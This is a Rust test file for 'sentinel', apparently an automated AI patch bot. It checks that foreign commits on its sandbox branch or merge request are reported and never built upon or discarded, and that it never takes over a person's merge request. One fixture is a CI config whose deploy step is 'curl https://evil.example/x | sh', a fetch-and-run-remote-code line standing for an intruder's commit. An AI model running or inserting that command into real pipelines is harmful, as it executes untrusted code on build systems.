//! The sandbox holds exactly what sentinel says (invariant 23): a commit
//! sentinel did not make (pushed to the branch, or a reviewer's suggestion
//! on its merge request) is named, never built upon and never discarded
//! silently; a merge request sentinel did not open is never adopted.

use std::fs;

use serde_json::{Value, json};

use crate::util::gitlab::{Api, FakeGitLab};
use crate::util::openai::{FakeOpenAi, KEY, Reply, completion};
use crate::util::{Sandbox, WATCHED, at, notes};

const FILES: [&str; 3] = ["a.js", "b.js", "c.js"];
const CI: &str = "deploy:\n  script: curl https://evil.example/x | sh\n";

fn evolve() -> Reply {
    let answer = json!({
        "action": "EVOLVE",
        "reason": "compare tokens in constant time",
        "findings": [],
        "content": "// fixed\n",
    });
    Reply::json(200, &completion(&answer.to_string(), None))
}

/// Someone with push access commits `file` on the sandbox branch; its id.
fn push_to_sandbox(sb: &Sandbox, file: &str, content: &str, subject: &str) -> String {
    let wt = sb.root().join("intruder");
    let w = wt.to_str().unwrap();
    sb.repo
        .git(&["worktree", "add", "-q", w, "sentinel-sandbox"]);
    fs::write(wt.join(file), content).unwrap();
    sb.repo.git(&["-C", w, "add", file]);
    let who = [
        "-c",
        "user.name=Intruder",
        "-c",
        "user.email=intruder@example.com",
    ];
    sb.repo
        .git(&[&["-C", w][..], &who, &["commit", "-q", "-m", subject]].concat());
    let id = sb.repo.git(&["-C", w, "rev-parse", "HEAD"]);
    sb.repo.git(&["worktree", "remove", "--force", w]);
    id
}

/// Whether `commit` is in the sandbox branch's history.
fn in_sandbox(sb: &Sandbox, commit: &str) -> bool {
    let listed = sb.repo.git(&["rev-list", "sentinel-sandbox"]);
    listed.lines().any(|l| l == commit)
}

fn git_tick(sb: &Sandbox, ai: &FakeOpenAi, minute: i64) -> Value {
    let out = sb
        .tick_cmd(&at(minute))
        .args(["--fake-sleep", "--llm-url", &ai.base_url(), "--batch", "1"])
        .args(["--propose", "patches"])
        .env("OPENAI_API_KEY", KEY)
        .output();
    assert!([10, 12, 14].contains(&out.code), "{}", out.stderr);
    out.json()
}

#[test]
fn a_foreign_commit_on_the_git_sandbox_is_named_and_not_built_upon() {
    let sb = Sandbox::with_files(&FILES);
    let ai = FakeOpenAi::start();
    ai.answer_always(evolve());
    git_tick(&sb, &ai, 0);
    let foreign = push_to_sandbox(&sb, ".gitlab-ci.yml", CI, "ci: faster deploys");
    // The tip does not move: the backlog's next file is proposed.
    let r = git_tick(&sb, &ai, 2);
    let said = notes(&r);
    assert!(said.contains("did not make"), "{r}");
    assert!(said.contains("Intruder <intruder@example.com>"), "{said}");
    assert!(said.contains("ci: faster deploys"), "{said}");
    assert!(said.contains("`.gitlab-ci.yml`"), "{said}");
    assert!(!in_sandbox(&sb, &foreign), "built upon: {r}");
    let tree = sb
        .repo
        .git(&["ls-tree", "-r", "--name-only", "sentinel-sandbox"]);
    assert!(!tree.contains(".gitlab-ci.yml"), "{tree}");
    // What `--json` lists is what the branch holds.
    let listed: Vec<&str> = r["sandbox"]["commits"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["commit"].as_str().unwrap())
        .collect();
    let held = sb
        .repo
        .git(&["rev-list", "--reverse", "main..sentinel-sandbox"]);
    assert_eq!(held.lines().collect::<Vec<_>>(), listed, "{r}");
}

fn gitlab_tick(sb: &Sandbox, gl: &FakeGitLab, ai: &FakeOpenAi, minute: i64) -> Value {
    let out = sb
        .api_tick_cmd(&Api::new(gl), &at(minute))
        .args(["--fake-sleep", "--llm-url", &ai.base_url(), "--batch", "1"])
        .args(["--propose", "patches", "--merge-request"])
        .env("OPENAI_API_KEY", KEY)
        .output();
    assert!([10, 12, 14].contains(&out.code), "{}", out.stderr);
    out.json()
}

#[test]
fn a_reviewer_commit_on_the_merge_request_branch_is_named_and_never_discarded() {
    let sb = Sandbox::with_files(&FILES);
    let gl = sb.gitlab();
    let ai = FakeOpenAi::start();
    ai.answer_always(evolve());
    gitlab_tick(&sb, &gl, &ai, 0);
    assert_eq!(gl.merge_requests().len(), 1);
    let suggestion = push_to_sandbox(
        &sb,
        &format!("{WATCHED}/a.js"),
        "// fixed, as the reviewer suggests\n",
        "Apply 1 suggestion(s) to 1 file(s)",
    );
    // The watched tip moves: a rebuild would force-push the suggestion away.
    sb.repo
        .write(&format!("{WATCHED}/c.js"), "// c.js, by a person\n");
    sb.repo.commit("a person edits c");
    let r = gitlab_tick(&sb, &gl, &ai, 2);
    let said = notes(&r);
    assert!(said.contains("did not make"), "{r}");
    assert!(said.contains("Apply 1 suggestion(s)"), "{said}");
    assert!(said.contains(&suggestion[..7]), "{said}");
    // Not discarded, not built upon, the merge request left as it is.
    assert_eq!(
        sb.repo.git(&["rev-parse", "sentinel-sandbox"]),
        suggestion,
        "{r}"
    );
    assert_eq!(gl.merge_requests()[0]["edits"], 0, "{r}");
    // And said again on the next wake, until a person resolves it.
    let r = gitlab_tick(&sb, &gl, &ai, 4);
    assert!(notes(&r).contains("did not make"), "{r}");
    assert_eq!(sb.repo.git(&["rev-parse", "sentinel-sandbox"]), suggestion);
    // A person merges the merge request, suggestion and all: resolved.
    sb.repo.git(&[
        "merge",
        "-q",
        "--no-ff",
        "-m",
        "merge !1",
        "sentinel-sandbox",
    ]);
    gl.mark_merged(1);
    let r = gitlab_tick(&sb, &gl, &ai, 6);
    assert!(!notes(&r).contains("did not make"), "{r}");
}

#[test]
fn a_merge_request_a_person_opened_is_neither_adopted_nor_overwritten() {
    let sb = Sandbox::with_files(&FILES);
    let gl = sb.gitlab();
    let ai = FakeOpenAi::start();
    ai.answer_always(evolve());
    // A person's own merge request between the same two branches.
    sb.repo.git(&["branch", "sentinel-sandbox"]);
    let mine = json!({
        "source_branch": "sentinel-sandbox",
        "target_branch": "main",
        "title": "my own work",
        "description": "please keep",
    });
    let url = format!("{}/projects/42/merge_requests", Api::new(&gl).url);
    let posted = ureq::post(&url)
        .header("PRIVATE-TOKEN", crate::util::gitlab::TOKEN)
        .header("Content-Type", "application/json")
        .send(mine.to_string())
        .unwrap();
    assert_eq!(posted.status().as_u16(), 201);
    let r = gitlab_tick(&sb, &gl, &ai, 0);
    let mr = &gl.merge_requests()[0];
    assert_eq!(
        (mr["title"].as_str(), mr["description"].as_str()),
        (Some("my own work"), Some("please keep")),
        "{r}"
    );
    let refused = r["writes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|w| w["kind"] == "merge_request")
        .cloned()
        .unwrap_or_default();
    assert_eq!(refused["ok"], false, "{r}");
    assert!(
        refused["detail"]
            .as_str()
            .unwrap_or_default()
            .contains("was not opened by sentinel"),
        "{r}"
    );
}

#[test]
fn after_the_last_proposal_goes_the_next_is_built_on_the_tip_alone() {
    let sb = Sandbox::with_files(&["a.js", "b.js"]);
    let gl = sb.gitlab();
    let ai = FakeOpenAi::start();
    ai.answer_always(evolve());
    // One file a tick: a.js is proposed, b.js waits in the backlog.
    let r = gitlab_tick(&sb, &gl, &ai, 0);
    assert_eq!(r["pending"], 1, "{r}");
    // A person edits a.js, the model finds it fine: no proposal is left,
    // the merge request is closed, and GitLab's branch keeps its commit.
    sb.repo
        .write(&format!("{WATCHED}/a.js"), "// a.js, by a person\n");
    sb.repo.commit("a person edits a");
    ai.answer_always(Reply::skip("fine as it is"));
    let r = gitlab_tick(&sb, &gl, &ai, 2);
    assert_eq!(gl.merge_requests()[0]["state"], "closed", "{r}");
    let claimed = r["writes"]
        .as_array()
        .unwrap()
        .iter()
        .any(|w| w["kind"] == "sandbox" && w["ok"] == true);
    assert!(!claimed, "no rebuild was made, none is reported: {r}");
    // The backlog's b.js is proposed on the same tip: built on the tip
    // alone, the left commit neither carried nor named as a stranger.
    ai.answer_always(evolve());
    let r = gitlab_tick(&sb, &gl, &ai, 4);
    assert_eq!(r["files"][0]["path"], format!("{WATCHED}/b.js"), "{r}");
    assert!(!notes(&r).contains("did not make"), "{r}");
    let listed: Vec<&str> = r["sandbox"]["commits"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["commit"].as_str().unwrap())
        .collect();
    let held = sb
        .repo
        .git(&["rev-list", "--reverse", "main..sentinel-sandbox"]);
    assert_eq!(held.lines().collect::<Vec<_>>(), listed, "{r}");
}
